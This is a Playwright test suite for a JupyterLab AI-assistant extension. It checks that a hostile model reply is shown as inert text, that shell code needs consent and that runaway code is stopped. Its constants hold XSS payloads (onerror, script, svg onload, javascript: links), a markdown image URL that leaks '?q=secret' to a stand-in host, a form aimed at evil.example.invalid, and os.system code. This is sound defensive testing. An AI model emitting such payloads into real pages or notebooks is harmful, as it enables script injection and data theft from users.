"""Answers are text, never live HTML, and code the sidebar runs passes the execution policy
and a time limit — in a real JupyterLab and a page with the docs widget, in Chromium, with
a scripted model server (tests/support/fake_llm.py) whose reply carries an attack.

Steps, in order, on one page and one notebook:

1. open the notebook and the sidebar (its time limit and agent design are set in its settings);
2. the sidebar shows the hostile answer: no script ran, nothing was asked of the image
   host, no form, button or input of the reply is in the answer, the image is a link;
3. the same answer to `%molsys ask` in the notebook;
4. the same answer in the docs widget, on a page of its own asking `molsys-ai serve`;
5. Run on an answer's `os.system` code shows the exact code and the policy's reasons in a
   consent dialog; Cancel runs nothing;
6. Do it sends the agent design of the settings (freeform here): the model's own code comes back;
7. Run on code that ignores interrupts: stopped after the time limit (interrupt, then a
   restart), one message in the sidebar, and the kernel answers `1+1` afterwards;
8. nothing left the machine.
"""

from __future__ import annotations

import functools
import json
import os
import re
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from lab_page import SIDEBAR_TAB, add_cell, answers, cells, run_cell, sidebar, wait_for_kernel
from playwright.sync_api import expect

from conftest import REPO
from support.fake_llm import FakeLLM
from support.servers import free_port, stopped_at_the_end, wait_until_up

pytestmark = pytest.mark.browser

QUESTION = "how many water molecules are there?"  # one the toy index answers from its pages
IMAGE_HOST = "images.example.invalid"
IMAGE_URL = f"http://{IMAGE_HOST}/leak.png?q=secret"
PWN = "window.__pwned=1;document.title='PWNED'"
HOSTILE_REPLY = (
    f"Count them with get [1]. <img src=x onerror=\"{PWN}\"> and <script>{PWN}</script>\n\n"
    f"<svg onload=\"{PWN}\"><circle r=\"4\"></circle></svg>\n\n"
    f"[click](javascript:{PWN}) or [this](data:text/html,<script>alert(1)</script>)\n\n"
    f"![x]({IMAGE_URL})\n\n"
    "<form action=\"http://evil.example.invalid/\"><button>Run</button><input name=\"q\"></form>\n"
)
SHELL_CODE = "import os\nos.system('touch PWNED')"
SHELL_REPLY = f"Make the file with the shell [1]:\n\n```python\n{SHELL_CODE}\n```\n"
STUBBORN_CODE = "import time\nwhile True:\n    try:\n        time.sleep(0.1)\n    except BaseException:\n        pass"
STUBBORN_REPLY = f"Wait for the waters [1]:\n\n```python\n{STUBBORN_CODE}\n```\n"
FREEFORM_CODE = "import mdtraj as md\nanswer = md.load('1vii.pdb').n_residues"
TIME_LIMIT_S = 5
STOPPED_WITHIN_S = TIME_LIMIT_S + 15  # interrupt, 3 s of grace, then a kernel restart on two busy cores

# what a reply may not bring into a page (the front ends' own Copy / Insert / Run buttons of code blocks aside)
LIVE_CONTROLS = ("form, button:not(.jp-MolsysAI-codeActions > button, .molsys-ai-codewrap > .molsys-ai-copy), input, "
                 "textarea, select, iframe, object, embed, script, style, svg, img")


@pytest.fixture(scope="module")
def real_index(mini_index):
    """These steps are about how answers are shown and how code runs: the toy index will do."""
    return mini_index, None


@pytest.fixture(scope="module")
def model():
    with FakeLLM([HOSTILE_REPLY]) as fake:
        yield fake


def reply_with(model: FakeLLM, text: str) -> None:
    model.replies = [text]


# ---------------------------------------------------------------- helpers


def ask(page, text: str):
    """Ask in the sidebar; the new answer once rendered."""
    n = answers(page).count()
    textarea = sidebar(page).locator(".jp-MolsysAI-textarea")
    textarea.fill(text)
    textarea.press("Enter")
    answer = answers(page).nth(n)
    expect(answer.locator(".jp-MolsysAI-markdown .jp-RenderedMarkdown, .jp-MolsysAI-error").first).to_be_visible(
        timeout=120_000)
    expect(answer.locator(".jp-MolsysAI-error")).to_have_count(0)
    expect(sidebar(page).get_by_role("button", name="Send")).to_be_visible()
    return answer


def image_requests(traffic) -> list[str]:
    return [url for url in traffic.requests + traffic.blocked if urlsplit(url).hostname == IMAGE_HOST]


def assert_nothing_ran_or_loaded(page, root, traffic) -> None:
    """The payloads did nothing: no script ran, no request for the image, nothing live in `root`."""
    page.wait_for_timeout(1500)  # an image's onerror or an svg's onload would have fired by now
    assert page.evaluate("() => window.__pwned") is None
    assert "PWNED" not in page.title()
    assert image_requests(traffic) == []
    live = root.evaluate(f"node => [...node.querySelectorAll({LIVE_CONTROLS!r})].map(e => e.outerHTML)")
    assert live == [], live
    protocols = root.evaluate("node => [...node.querySelectorAll('a[href]')].map(a => a.protocol)")
    assert set(protocols) <= {"http:", "https:"}, protocols  # no javascript: or data: link
    handlers = root.evaluate(
        "node => [...node.querySelectorAll('*')].flatMap(e => [...e.attributes].map(a => a.name))"
        ".filter(name => name.startsWith('on'))")
    assert handlers == []


def post(lab, path: str, body: dict) -> dict:
    request = urllib.request.Request(f"{lab.url}/{path}", data=json.dumps(body).encode(), method="POST",
                                     headers={"Authorization": f"token {lab.token}"})
    with urllib.request.urlopen(request, timeout=30) as response:
        return json.loads(response.read())


# ---------------------------------------------------------------- the docs widget's page


class _Quiet(SimpleHTTPRequestHandler):
    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def widget_page_url(tmp_path_factory, model, mini_index, artifacts):
    """A page with the docs widget (as the Sphinx extension sets it up) on a loopback
    server, asking a `molsys-ai serve` that answers with the scripted model."""
    site = tmp_path_factory.mktemp("widget-site")
    static = REPO / "molsys_ai_jupyter" / "sphinx" / "static"
    for name in ("molsys-ai-chat.js", "molsys-ai-chat.css"):
        (site / name).write_bytes((static / name).read_bytes())
    server = ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_Quiet, directory=str(site)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    site_url = f"http://127.0.0.1:{server.server_address[1]}"
    api_url = f"http://127.0.0.1:{free_port()}"
    (site / "index.html").write_text(
        "<!DOCTYPE html><html><head><meta charset='utf-8'><title>Docs</title>"
        "<link rel='stylesheet' href='molsys-ai-chat.css'></head><body><h1>Docs</h1>"
        f"<script id='molsys-ai-config' type='application/json'>{json.dumps({'apiUrl': api_url})}</script>"
        "<script src='molsys-ai-chat.js'></script></body></html>")
    home = tmp_path_factory.mktemp("widget-api")
    (home / "molsys-ai.toml").write_text("")
    env = {k: v for k, v in os.environ.items() if not k.startswith("MOLSYS_AI_")}
    env.update({"MOLSYS_AI_CONFIG": str(home / "molsys-ai.toml"), "MOLSYS_AI_DATA": str(mini_index.data_root),
                "MOLSYS_AI_INDEX_DIR": str(mini_index.index_root), "MOLSYS_AI_INDEX": mini_index.index_name,
                "MOLSYS_AI_CACHE": str(mini_index.cache_dir), "MOLSYS_AI_LLM_URL": model.url,
                "MOLSYS_AI_MODEL": model.model, "PYTHONUNBUFFERED": "1"})
    log = artifacts / "answer-safety-serve.log"
    with log.open("w") as out:
        process = subprocess.Popen(
            [sys.executable, "-m", "molsys_ai_jupyter.cli.main", "serve", "--host", "127.0.0.1", "--port",
             api_url.rsplit(":", 1)[1], "--anonymous", "--cors-origin", site_url,
             "--feedback-db", str(home / "feedback.sqlite3")],
            cwd=REPO, env=env, stdout=out, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL)

    def probe() -> None:
        try:
            urllib.request.urlopen(f"{api_url}/healthz", timeout=5).close()
        except urllib.error.HTTPError:
            pass  # it answers: up (503 while it loads)

    with stopped_at_the_end(process):
        wait_until_up(process, probe, f"molsys-ai serve (log: {log})", 240)
        try:
            yield f"{site_url}/index.html"
        finally:
            server.shutdown()
            server.server_close()


# ---------------------------------------------------------------- the steps


def test_1_open_the_notebook_and_the_sidebar_with_its_run_settings(lab, page, model):
    saved = Path(lab.env["JUPYTERLAB_SETTINGS_DIR"]) / "molsys-ai-jupyterlab" / "plugin.jupyterlab-settings"
    saved.parent.mkdir(parents=True, exist_ok=True)
    saved.write_text(json.dumps({"runTimeLimitSeconds": TIME_LIMIT_S, "agentDesign": "freeform"}))
    lab.use_model(model.url, model.model)
    page.goto(lab.lab_url())
    expect(cells(page)).to_have_count(2, timeout=90_000)
    wait_for_kernel(page)
    page.locator(SIDEBAR_TAB).click()
    expect(sidebar(page).locator(".jp-MolsysAI-textarea")).to_be_visible()


def test_2_the_sidebar_shows_a_hostile_answer_as_text(lab, page, model, traffic, artifacts):
    reply_with(model, HOSTILE_REPLY)
    answer = ask(page, QUESTION)
    body = answer.locator(".jp-MolsysAI-markdown")
    expect(body).to_contain_text("Count them with get")
    page.screenshot(path=str(artifacts / "answer-safety-sidebar.png"))
    assert_nothing_ran_or_loaded(page, body, traffic)
    image = body.locator(f"a[href='{IMAGE_URL}']")
    expect(image).to_have_text(f"image: x ({IMAGE_URL})")  # a link to click, not a fetch


def test_3_molsys_ask_in_the_notebook_shows_it_as_text(lab, page, model, traffic, artifacts):
    reply_with(model, HOSTILE_REPLY)
    run_cell(page, add_cell(page, "%load_ext molsys_ai_jupyter"))
    wait_for_kernel(page)
    cell = add_cell(page, f"%molsys ask {QUESTION}")
    run_cell(page, cell)
    output = cell.locator(".jp-OutputArea-output", has_text="Count them with get")
    expect(output).to_contain_text("Sources", timeout=180_000)  # the final answer
    wait_for_kernel(page, 120_000)
    page.screenshot(path=str(artifacts / "answer-safety-notebook.png"))
    assert_nothing_ran_or_loaded(page, output, traffic)
    expect(output).to_contain_text("<img src=x onerror=")  # shown, as text
    expect(output.locator(f"a[href='{IMAGE_URL}']")).to_have_count(1)


def test_4_the_docs_widget_shows_it_as_text(context, model, widget_page_url, traffic, artifacts):
    reply_with(model, HOSTILE_REPLY)
    page = context.new_page()  # a tab of its own: the notebook stays open for the next steps
    try:
        page.goto(widget_page_url)
        page.locator(".molsys-ai-toggle").click()
        page.locator("#molsys-ai-input").fill(QUESTION)
        page.keyboard.press("Enter")
        answer = page.locator(".molsys-ai-answer").last
        expect(answer.locator(".molsys-ai-sources")).to_be_visible(timeout=120_000)  # the final answer
        page.screenshot(path=str(artifacts / "answer-safety-docs-widget.png"))
        body = answer.locator(".molsys-ai-markdown")
        expect(body).to_contain_text("Count them with get")
        assert_nothing_ran_or_loaded(page, body, traffic)
        expect(body.locator(f"a[href='{IMAGE_URL}']")).to_have_text(f"image: x ({IMAGE_URL})")
    finally:
        page.close()


def test_5_run_asks_for_consent_with_the_exact_code_and_cancel_runs_nothing(lab, page, model, artifacts):
    reply_with(model, SHELL_REPLY)
    verdict = post(lab, "molsys-ai/policy", {"code": SHELL_CODE, "notebook": lab.notebook})
    assert verdict["needs_consent"], verdict
    answer = ask(page, QUESTION)
    block = answer.locator(".jp-MolsysAI-codeBlock", has_text="os.system").first
    expect(block.locator("pre")).to_have_text(SHELL_CODE)
    count = cells(page).count()
    block.get_by_role("button", name="Run").click()
    dialog = page.locator(".jp-Dialog")
    expect(dialog).to_contain_text("Run code that needs your consent?")
    code = dialog.locator(".jp-MolsysAI-consentCode")
    assert code.evaluate("node => node.textContent") == SHELL_CODE  # byte for byte what would run
    reasons = dialog.locator(".jp-MolsysAI-findings li")
    expect(reasons).to_have_text([f["explanation"] for f in verdict["findings"]])  # one wording everywhere
    page.screenshot(path=str(artifacts / "answer-safety-consent.png"))
    dialog.get_by_role("button", name="Cancel").click()
    expect(dialog).to_have_count(0)
    expect(block.locator(".jp-MolsysAI-runNote")).to_have_text("not run: you did not consent")
    page.wait_for_timeout(1500)
    expect(cells(page)).to_have_count(count)  # nothing inserted, nothing run
    assert not (lab.root / "PWNED").exists()


def test_6_do_it_asks_with_the_agent_design_of_the_settings(lab, page, model):
    reply_with(model, f"```python\n{FREEFORM_CODE}\n```")
    do_it = sidebar(page).get_by_role("checkbox", name="Do it")
    do_it.check()
    n = answers(page).count()
    try:
        with page.expect_request(lambda r: urlsplit(r.url).path.endswith("/molsys-ai/agent/suggest")) as sent:
            textarea = sidebar(page).locator(".jp-MolsysAI-textarea")
            textarea.fill("How many residues are in 1vii.pdb?")
            textarea.press("Enter")
        assert sent.value.post_data_json["design"] == "freeform"
        suggestion = answers(page).nth(n).locator(".jp-MolsysAI-suggestion")
        expect(suggestion).to_be_visible(timeout=120_000)
        expect(suggestion.locator(".jp-MolsysAI-codeBlock pre")).to_have_text(FREEFORM_CODE + "\nanswer")
        expect(suggestion).to_contain_text("the model wrote 2 lines of code")  # free-form, not a recipe
    finally:
        do_it.uncheck()


def test_7_code_past_the_time_limit_is_stopped_and_the_kernel_answers(lab, page, model, artifacts):
    reply_with(model, STUBBORN_REPLY)
    verdict = post(lab, "molsys-ai/policy", {"code": STUBBORN_CODE, "notebook": lab.notebook})
    answer = ask(page, QUESTION)
    block = answer.locator(".jp-MolsysAI-codeBlock", has_text="while True").first
    expect(block.locator("pre")).to_have_text(STUBBORN_CODE)
    cells(page).last.locator(".jp-InputPrompt").click()  # the code goes below the last cell
    count = cells(page).count()
    block.get_by_role("button", name="Run").click()
    if verdict["needs_consent"]:  # the policy may ask about `time`: the consent is given here
        page.locator(".jp-Dialog").get_by_role("button", name="Run it").click()
    started = time.monotonic()
    expect(cells(page)).to_have_count(count + 1)
    note = block.locator(".jp-MolsysAI-runNote")
    expect(note).to_have_text(re.compile(rf"^stopped after {TIME_LIMIT_S} s: "), timeout=STOPPED_WITHIN_S * 1000)
    stopped_s = time.monotonic() - started
    page.screenshot(path=str(artifacts / "answer-safety-time-limit.png"))
    assert TIME_LIMIT_S - 1 <= stopped_s <= STOPPED_WITHIN_S, stopped_s
    print(f"\nstopped {stopped_s:.1f} s after Run (limit {TIME_LIMIT_S} s): {note.inner_text()}")
    wait_for_kernel(page)
    check = add_cell(page, "1+1")
    run_cell(page, check)
    expect(check.locator(".jp-OutputArea-output")).to_have_text("2", timeout=60_000)


def test_8_nothing_left_the_machine(traffic):
    assert image_requests(traffic) == []
    assert traffic.escaped() == []
